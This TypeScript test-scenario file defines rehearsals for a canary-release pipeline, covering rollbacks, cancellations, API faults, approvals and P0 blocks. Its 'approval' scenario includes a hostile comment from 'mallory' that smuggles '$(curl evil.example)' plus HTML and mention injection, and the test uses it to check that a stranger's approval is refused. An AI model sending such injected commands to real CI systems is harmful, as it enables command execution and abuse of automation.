import type { Act } from "./act.ts";

/** What a rehearsal does to a small production, and how it has to end. */
export interface Scenario {
  readonly name: string;
  /** One line for people. */
  readonly story: string;
  /** Folder below the consumer's `changes/` that becomes the next commit. */
  readonly change: string;
  /** Issues that are open when it arrives. */
  readonly issues?: readonly { readonly title: string; readonly labels: readonly string[] }[];
  /** What happens in the repository. */
  readonly event: "push" | "pull_request" | "fork" | "push-then-rollback";
  /** What happens around the release, in order: each waits for the one before it. */
  readonly acts?: readonly Act[];
  /**
   * How fast the release's clocks run from the canary on: 3,600 makes an hour of a second. Only long sleeps are shortened;
   * deadlines and retries take their real time. Production code knows nothing of it.
   */
  readonly clock?: number;
  /** The only example that has the change for it. */
  readonly example?: string;
  /** Takes longer than a pull request should wait: played by `npm run nightly` and by name. */
  readonly nightly?: boolean;
  /** Requests a second; 1,000 unless said otherwise. */
  readonly rate?: number;
  /** Who must serve all traffic in the end. */
  readonly serves: "candidate" | "stable";
  /** How the release must end in the record; undefined when none may even begin. */
  readonly ends: "done" | "rolled-back" | "failed" | "held" | "halted" | undefined;
  /** What the log of a job has to say of it, where an ending may have many causes. */
  readonly says?: RegExp;
  /** How the newest run ends, where it is not the first one that is judged. */
  readonly afterwards?: "success" | "failure";
  /** What GitHub says about the run. */
  readonly conclusion: "success" | "failure" | "cancelled";
  /** Whether the candidate may take any traffic at all. */
  readonly exposed: boolean;
  /** The documented exit code that a person's command would end with. */
  readonly exitCode: number;
}

export const scenarios: readonly Scenario[] = [
  {
    name: "good",
    story: "a good release goes all the way",
    change: "good",
    event: "push",
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "errors",
    story: "a release that fails 8 % of its requests is caught at 5 % and goes back",
    change: "errors",
    event: "push",
    serves: "stable",
    ends: "rolled-back",
    conclusion: "failure",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "slow",
    story: "a release that answers 300 ms later is caught and goes back",
    change: "slow",
    event: "push",
    nightly: true,
    serves: "stable",
    ends: "rolled-back",
    conclusion: "failure",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "migration-fails",
    story: "a migration that cannot be applied stops the release before anything is deployed",
    change: "migration-fails",
    event: "push",
    nightly: true,
    serves: "stable",
    ends: "failed",
    conclusion: "failure",
    exposed: false,
    exitCode: 1,
  },
  {
    name: "cannot-start",
    story: "a version that cannot start never takes traffic",
    change: "cannot-start",
    event: "push",
    nightly: true,
    serves: "stable",
    ends: "failed",
    conclusion: "failure",
    exposed: false,
    exitCode: 1,
  },
  {
    name: "cancel",
    story: "somebody cancels the run in the middle of the canary",
    change: "good",
    event: "push",
    acts: [{ on: /look 2 at \d+%/, do: "cancel" }],
    serves: "stable",
    ends: "rolled-back",
    conclusion: "cancelled",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "no-traffic",
    story: "nobody visits, so nothing can be proven and the candidate goes back to 0 %",
    change: "good",
    event: "push",
    rate: 0,
    serves: "stable",
    ends: "held",
    conclusion: "failure",
    exposed: true,
    exitCode: 5,
  },
  {
    name: "pull-request",
    story: "a pull request is validated, and nothing moves",
    change: "good",
    event: "pull_request",
    serves: "stable",
    ends: undefined,
    conclusion: "success",
    exposed: false,
    exitCode: 0,
  },
  {
    name: "fork",
    story: "a pull request from a fork is validated without a secret, and nothing moves",
    change: "good",
    event: "fork",
    serves: "stable",
    ends: undefined,
    conclusion: "success",
    exposed: false,
    exitCode: 0,
  },
  {
    name: "rollback-dispatch",
    story: "a good release is sent back by a person",
    change: "good",
    event: "push-then-rollback",
    serves: "stable",
    ends: "rolled-back",
    conclusion: "success",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "machine-lost",
    story: "the machine is lost in mid shift, between the announcement of a raise and what came of it",
    change: "good",
    event: "push",
    acts: [{ on: /about to give the candidate 25%/, do: "lose-machine" }],
    serves: "stable",
    ends: "rolled-back",
    conclusion: "failure",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "two-pushes",
    story: "a second push arrives in the middle; it waits, and is caught and sent back to the first",
    change: "good",
    event: "push",
    acts: [{ on: /look 1 at 5%/, do: "push", change: "errors" }],
    nightly: true,
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    afterwards: "failure",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "old-run-again",
    story: "somebody runs an old run again after a newer release; it is refused, and nothing moves",
    change: "good",
    event: "push",
    acts: [
      { on: "quiet", do: "push", change: "cannot-start" },
      { on: "quiet", do: "rerun", run: "first", which: "all" },
    ],
    nightly: true,
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    afterwards: "failure",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "moved-by-hand",
    story: "a person gives the candidate everything in the middle of the canary; their word stands",
    change: "good",
    event: "push",
    acts: [{ on: /look 2 at 5%/, do: "move-traffic", to: "candidate" }],
    nightly: true,
    serves: "candidate",
    ends: "halted",
    conclusion: "failure",
    exposed: true,
    exitCode: 4,
  },
  {
    name: "broken-apis",
    story:
      "the platform answers 503, 429 and too late, GitHub 503, 429 and 502 after it obeyed; the release gets there",
    change: "good",
    event: "push",
    acts: [
      { on: /canary 5%: pass/, do: "break-platform", faults: { delayMs: 300, refuseWrites: 1, limitWrites: 1 } },
      {
        on: /look 1 at 25%/,
        do: "break-github",
        faults: [
          { kind: "503", times: 2, match: { method: "GET" } },
          { kind: "429", times: 1, match: { method: "POST" } },
          { kind: "502-after-apply", times: 1, match: { method: "PATCH", path: /\/git\/refs\// } },
        ],
      },
      { on: /canary 25%: pass/, do: "break-platform", faults: { delayMs: 300, loseAnswers: 1 } },
    ],
    nightly: true,
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "record-lost",
    story:
      "the record cannot be written while a bad release goes back; users do not notice, and the record hears of it later",
    change: "errors",
    event: "push",
    acts: [
      { on: /look 2 at 5%/, do: "break-github", faults: [{ kind: "503", times: 10_000, match: { path: /\/git\// } }] },
      { on: /the record could not be written/, do: "mend-github" },
    ],
    serves: "stable",
    ends: "rolled-back",
    conclusion: "failure",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "approval",
    story:
      "a stage waits for an approval; a stranger's is refused, a person's comment lets a new run take the release up",
    change: "approval",
    event: "push",
    acts: [
      { on: "quiet", do: "comment", by: "mallory", body: "/approve $(curl evil.example) @everyone <img src=x>" },
      { on: "quiet", do: "push", change: "unreleased" },
      { on: "quiet", do: "comment", by: "octocat", body: "/approve looks good" },
    ],
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    exposed: true,
    exitCode: 0,
  },
  {
    name: "p0-open",
    story: "an issue labelled P0 is open, so the release does not begin",
    change: "good",
    event: "push",
    issues: [{ title: "Customers cannot pay", labels: ["P0"] }],
    says: /1 open issues are labelled P0 \(#2\), 0 are allowed/,
    example: "foco",
    nightly: true,
    serves: "stable",
    ends: undefined,
    conclusion: "failure",
    exposed: false,
    exitCode: 1,
  },
  {
    name: "beta-errors",
    story: "a beta feature fails for the people who get it; it is turned off for them again, and the version stays",
    change: "beta-errors",
    event: "push",
    example: "foco",
    nightly: true,
    serves: "candidate",
    ends: "failed",
    conclusion: "failure",
    exposed: true,
    exitCode: 1,
  },
  {
    name: "two-days",
    story: "two days at 5 % on a clock that runs 7,200 times as fast: chained ticks go on by themselves to the end",
    change: "two-days",
    event: "push",
    clock: 7_200,
    nightly: true,
    serves: "candidate",
    ends: "done",
    conclusion: "success",
    exposed: true,
    exitCode: 0,
  },
];

/** What is played at night of the other examples, besides what is theirs alone: each on its own platform's twin. */
export const nightlyOfExamples: readonly {
  readonly example: string;
  readonly names: readonly string[];
  /** Requests a second, where the usual 1,000 are too many for what runs beside them. */
  readonly rate?: number;
}[] = [
  { example: "foco", names: ["migration-fails", "rollback-dispatch", "slow"], rate: 400 },
  { example: "voxanne", names: ["cannot-start", "migration-fails", "rollback-dispatch"] },
  { example: "proofile", names: ["cannot-start", "migration-fails", "rollback-dispatch"] },
];

export const scenarioNamed = (name: string): Scenario | undefined =>
  scenarios.find((scenario) => scenario.name === name);
